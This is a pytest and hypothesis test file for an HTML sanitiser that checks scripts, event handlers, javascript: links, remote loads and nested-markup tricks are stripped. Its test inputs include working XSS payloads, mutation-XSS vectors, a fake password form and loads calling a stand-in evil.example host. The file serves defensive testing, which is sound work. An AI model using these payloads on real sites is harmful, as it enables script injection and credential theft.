"""HTML out of files: nothing runs, nothing is fetched, what people read stays."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oer.reading.sanitising import Addresses, clean_html

HERE = Addresses(
    page=lambda number, anchor: f"/read?page={number}" + (f"#{anchor}" if anchor else ""),
    member=lambda name: f"/members/{name}",
)


def cleaned(html: str) -> str:
    return clean_html(html, HERE)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<p onclick=alert(1) style='background:url(https://evil.example)'>",
        "<a href='javascript:alert(1)'>",
        "<a href='java\nscript:alert(1)'>",
        "<a href='data:text/html,<script>alert(1)</script>'>",
        "<a href='vbscript:x'>",
        "<iframe src=https://evil.example></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
        "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<img src=https://evil.example/pixel.png>",
        "<img src=x onerror=alert(1)>",
        "<img srcset='https://evil.example/x 2x' src='//evil.example/x'>",
        "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example'</style>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
        "<video src=https://evil.example autoplay></video><audio src=https://evil.example></audio>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><script>alert(1)</script></template>",
        "<p id='main'><input id=errors>",
    ],
)
def test_nothing_that_runs_or_calls_home_is_left(html: str) -> None:
    left = cleaned(html).lower()
    assert not re.search(r"<(script|style|iframe|object|embed|form|input|button|svg|mglyph|link|meta|base)", left)
    assert not re.search(r"<(video|audio|template|noscript)", left)
    assert not re.search(r"\s(on\w+|style|srcset|action|formaction)=", left)
    assert "javascript:" not in left
    assert "evil.example" not in left
    assert 'id="main"' not in left


def test_formulas_stay_without_what_links_or_loads() -> None:
    left = cleaned(
        '<math href="javascript:x" display="block" alttext="a &lt; b"><mi xlink:href="https://evil.example">a</mi>'
        '<maction actiontype="statusline"><mo stretchy="false" style="x">&lt;</mo></maction>'
        '<annotation-xml encoding="text/html"><b onclick="x">b</b></annotation-xml></math>'
    )
    assert left.startswith('<math display="block" alttext="a &lt; b"><mi>a</mi><mo stretchy="false">&lt;</mo>')
    assert not re.search("href|annotation|maction|onclick|style|evil", left)


def test_only_our_own_marks_of_tables_and_lists_stay() -> None:
    left = cleaned('<ol type="a" start="3"><li value="5">x</li></ol><ol type="url(x)"></ol>')
    assert left == '<ol type="a" start="3"><li value="5">x</li></ol><ol></ol>'
    table = cleaned('<table><tr><td class="figure">7</td><td class="button">x</td><th scope="evil">y</th></tr></table>')
    assert '<td class="figure">7</td><td>x</td><th>y</th>' in table


def test_what_people_read_stays() -> None:
    left = cleaned("<h2>Chương 1</h2><p>An <b>toàn</b> điện</p><ul><li>một</li></ul>")
    assert "<h2>Chương 1</h2><p>An <b>toàn</b> điện</p><ul><li>một</li></ul>" in left


def test_headings_stand_below_ours_in_order() -> None:
    html = "<h1>a</h1><h4>b</h4><h2>c</h2><h6 id='x'>d</h6><h1>e</h1>"
    assert cleaned(html) == '<h2>a</h2><h3>b</h3><h3>c</h3><h4 id="in-x">d</h4><h2>e</h2>'
    assert cleaned("<h3>a</h3><h4>b</h4>") == "<h2>a</h2><h3>b</h3>"


def test_an_outer_table_scrolls_in_a_box_of_its_own() -> None:
    html = "<table><tr><th scope='col'>a</th><td><table><tr><td>b</td></tr></table></td></tr></table><p>c</p>"
    left = cleaned(html)
    assert left.startswith('<div class="table" tabindex="0"><table>')
    assert left.endswith("</table></div><p>c</p>")
    assert left.count("<div") == left.count("</div>") == 1
    assert '<th scope="col">a</th>' in left


def test_pages_and_pictures_of_the_document_have_addresses_here() -> None:
    left = cleaned('<a href="page:3#ghi">x</a><img src="member:OEBPS/hinh%201.png" alt="Cầu dao">')
    left += cleaned('<a href="#b">y</a><i id="b">')
    assert 'href="/read?page=3#in-ghi"' in left
    assert '<img loading="lazy" src="/members/OEBPS/hinh 1.png" alt="Cầu dao">' in left
    assert 'href="#in-b"' in left
    assert 'id="in-b"' in left


def test_a_picture_that_cannot_be_shown_leaves_its_description() -> None:
    assert cleaned('<img src="https://evil.example/x.png" alt="Sơ đồ a > b">') == "<em>[Sơ đồ a &gt; b]</em>"
    assert cleaned('<img src="https://evil.example/x.png">') == ""


def test_links_elsewhere_are_only_to_pages_and_mail_and_tell_nothing() -> None:
    left = cleaned('<a href="https://example.org/a">x</a><a href="../../etc/passwd">y</a><a href="mailto:a@b.vn">z</a>')
    assert 'href="https://example.org/a" rel="nofollow noopener noreferrer"' in left
    assert "passwd" not in left
    assert "mailto:a@b.vn" in left


def test_absurd_sizes_are_left_out() -> None:
    assert (
        cleaned('<img src="member:a" width="999999999" height="12">')
        == '<img loading="lazy" src="/members/a" height="12">'
    )
    assert cleaned('<td colspan="99999999">x</td>') == "x"


@given(st.text(alphabet="<>\"'= /abhimgscrptonlduxy:;&#&-!", max_size=200))
def test_whatever_comes_in_comes_out_clean_and_stays_clean(html: str) -> None:
    left = cleaned(html)
    assert not re.search(r"<(?!/?(?:[a-z0-9]+)[ >/])", left)
    assert not re.search(r"<(script|svg|img(?! loading=\"lazy\" src=\"/members/))", left)
    assert not re.search(r"<[^>]*\son\w+=\"", left)
